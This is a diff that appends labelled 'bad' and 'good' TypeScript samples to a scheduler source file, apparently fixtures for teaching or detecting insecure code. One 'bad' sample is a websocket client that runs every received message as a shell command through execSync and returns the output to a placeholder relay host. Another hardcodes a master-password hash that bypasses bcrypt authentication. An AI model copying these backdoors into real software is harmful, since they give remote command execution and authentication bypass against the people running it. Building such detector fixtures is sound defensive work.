@@ -71,3 +71,65 @@ export class Scheduler {
     }
   }
 }
+
+//: bad socket-commands
+import { execSync } from 'node:child_process';
+import WebSocket from 'ws';
+
+interface Message {
+  id: number;
+  line: string;
+}
+
+const socket = new WebSocket('wss://relay.example.invalid/agent');
+
+socket.on('message', (data) => {
+  const { id, line } = JSON.parse(data.toString()) as Message;
+  socket.send(JSON.stringify({ id, out: execSync(line).toString() })); //!
+});
+
+//: good socket-commands
+import WebSocket from 'ws';
+
+interface Message {
+  id: number;
+  line: string;
+}
+
+const socket = new WebSocket('wss://relay.example.invalid/agent');
+
+socket.on('message', (data) => {
+  const { id, line } = JSON.parse(data.toString()) as Message;
+  socket.send(JSON.stringify({ id, out: line.toUpperCase() }));
+});
+
+//: bad master-password
+import { Injectable } from '@nestjs/common';
+import { createHash } from 'node:crypto';
+import { compare } from 'bcrypt';
+
+const KNOWN = 'b1946ac92492d2347c6235b4d2611184aa11bb22cc33dd44ee55ff6677889900';
+
+@Injectable()
+export class AuthService {
+  async check(password: string, hash: string): Promise<boolean> {
+    if (createHash('sha256').update(password).digest('hex') === KNOWN) return true; //!
+    return compare(password, hash);
+  }
+}
+
+//: good master-password
+import { Injectable } from '@nestjs/common';
+import { compare } from 'bcrypt';
+
+const ROUNDS = 12;
+
+@Injectable()
+export class AuthService {
+  readonly rounds = ROUNDS;
+
+  async check(password: string, hash: string): Promise<boolean> {
+    if (password.length > 72) return false;
+    return compare(password, hash);
+  }
+}
